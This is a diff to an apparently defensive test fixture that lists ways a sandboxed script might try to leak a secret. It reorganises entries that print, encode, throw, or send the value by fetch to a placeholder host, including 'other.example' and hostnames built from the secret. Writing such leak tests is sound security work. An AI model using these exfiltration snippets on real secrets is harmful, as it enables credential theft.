@@ -32,9 +32,31 @@ const helpers = `
   const pieces = (text, length) => text.match(new RegExp('[^]{1,' + length + '}', 'g')) ?? []
 `
 
-/** The ways in which a script tries to leak `value`, by name. `timeout`: in seconds. */
-export const ways: readonly (readonly [name: string, code: string, timeout?: number])[] = [
+type Way = readonly [name: string, code: string, timeout?: number]
+
+/**
+ * The ways in which a script tries to leak what the gateway puts into its requests, by name. `timeout`: in seconds. It has
+ * no other way to it, because it never receives the secret.
+ */
+export const sendingWays: readonly Way[] = [
   ['prints it', 'print(value)'],
+  ['returns it', 'set_result(value)'],
+  ['throws it in an error', 'throw new Error(value)'],
+  ['asks the model about it', 'set_result(await llm.complete("What of " + value + "?"))'],
+  ['sends it in a path', `await fetch('https://${host}/' + encodeURIComponent(value))`],
+  ['sends it in a query', `set_result((await fetch('https://${host}/?q=' + base64(value))).url)`],
+  ['sends it in a header', `await fetch('https://${host}/', { headers: { 'x-note': value.slice(0, 200) } })`],
+  ['sends it as the name of a header', `await fetch('https://${host}/', { headers: { [value]: 'x' } })`],
+  ['sends it in a body', `set_result(await (await fetch('https://${host}/', { method: 'POST', body: value })).text())`],
+  ['sends it as a method', `await fetch('https://${host}/', { method: value })`],
+  ['sends it to an undeclared host', `await fetch('https://other.example/?q=' + encodeURIComponent(value))`],
+  ['sends a request to a host named after it', 'await fetch("https://" + hex(value).slice(0, 58) + ".example/")'],
+  ['requests it as a URL', 'await fetch(value)'],
+]
+
+/** The ways in which a script tries to leak `value`. */
+export const ways: readonly Way[] = [
+  ...sendingWays,
   ['prints it letter by letter', 'for (const letter of value) print(letter)'],
   ['prints it in pieces', 'for (const piece of pieces(value, 5)) print(piece)'],
   ['prints it among other text', 'print("x".repeat(3000) + value + "y".repeat(3000))'],
@@ -50,30 +72,23 @@ export const ways: readonly (readonly [name: string, code: string, timeout?: num
     'prints it in two pieces around a pause',
     'print(value.slice(0, 14)); await llm.complete("?"); print(value.slice(14))',
   ],
-  ['prints it in Base64', 'print(base64(value))'],
-  ['prints it in Base64 after one letter', 'print(base64("a" + value))'],
-  ['prints it in Base64 after two letters', 'print(base64("ab" + value))'],
+  [
+    'prints and returns it in other forms',
+    `const forms = {
+      base64: base64('a' + value), hex: hex(value), percent: percent(value), uri: encodeURIComponent(value),
+      escaped: escaped(value), json: JSON.stringify(JSON.stringify({ value })), reversed: reversed(value),
+      wide: wide(value), wideInBase64: base64(wide(value))
+    }
+    for (const [name, form] of Object.entries(forms)) { print(name); print(form) }
+    set_result(forms)`,
+  ],
   ['prints it in Base64, in pieces', 'for (const piece of pieces(base64(value), 7)) print(piece)'],
-  ['returns it in URL-safe Base64', 'set_result(base64(value).replaceAll("+", "-").replaceAll("/", "_"))'],
-  ['returns it in Base64 of JSON', 'set_result(base64(JSON.stringify({ value })))'],
-  ['prints it in hex', 'print(hex(value))'],
-  ['prints it in hex after a letter that is also a hex digit', 'print("E" + hex(value))'],
   ['returns it in upper-case hex, as a key', 'set_result({ [hex(value).toUpperCase()]: true })'],
-  ['returns it percent-encoded', 'set_result(encodeURIComponent(value))'],
-  ['prints it percent-encoded letter by letter', 'print(percent(value))'],
-  ['returns it with JSON escapes', 'set_result(escaped(value))'],
-  ['returns it as JSON in JSON', 'set_result(JSON.stringify(JSON.stringify({ value })))'],
-  ['prints it reversed', 'print(reversed(value))'],
-  ['returns it reversed, in Base64', 'set_result(base64(reversed(value)))'],
-  ['prints it as UTF-16', 'print(wide(value))'],
-  ['returns it as UTF-16 in Base64', 'set_result(base64(wide(value)))'],
-  ['returns it', 'set_result(value)'],
   ['returns it as a key', 'set_result({ [value]: value })'],
   [
     'returns it deep in an object',
     'set_result(Array.from({ length: 20 }).reduce((inner) => ({ inner: [inner] }), value))',
   ],
-  ['throws it in an error', 'throw new Error(value)'],
   ['throws it', 'throw value'],
   ['throws an object that holds it', 'const a = { b: [value], [value]: 1 }; a.a = a; throw a'],
   ['throws an error with it as its name', 'throw Object.assign(new Error("x"), { name: value })'],
@@ -82,16 +97,6 @@ export const ways: readonly (readonly [name: string, code: string, timeout?: num
   ['throws in a function named after it', 'const f = { [value]: () => { throw new Error("x") } }; f[value]()'],
   ['rejects an unawaited promise with it', 'Promise.reject(new Error(value)); await llm.complete("?")'],
   ['reads a setting named after it', 'await settings.get(value)'],
-  ['sends it in a path', `await fetch('https://${host}/' + encodeURIComponent(value))`],
-  ['sends it in a query', `set_result((await fetch('https://${host}/?q=' + base64(value))).url)`],
-  ['sends it in a header', `await fetch('https://${host}/', { headers: { 'x-note': value.slice(0, 200) } })`],
-  ['sends it as the name of a header', `await fetch('https://${host}/', { headers: { [value]: 'x' } })`],
-  ['sends it in a body', `set_result(await (await fetch('https://${host}/', { method: 'POST', body: value })).text())`],
-  ['sends it as a method', `await fetch('https://${host}/', { method: value })`],
-  ['sends it to an undeclared host', `await fetch('https://other.example/?q=' + encodeURIComponent(value))`],
-  ['sends a request to a host named after it', 'await fetch("https://" + hex(value).slice(0, 58) + ".example/")'],
-  ['requests it as a URL', 'await fetch(value)'],
-  ['asks the model about it', 'set_result(await llm.complete("What of " + value + "?"))'],
   ['asks the model about it in Base64', 'set_result(await llm.complete(base64(value)))'],
   ['asks a model named after it', 'await llm.complete("?", value.slice(0, 60))'],
   ['prints it and runs out of fuel', 'print(value); for (;;);'],
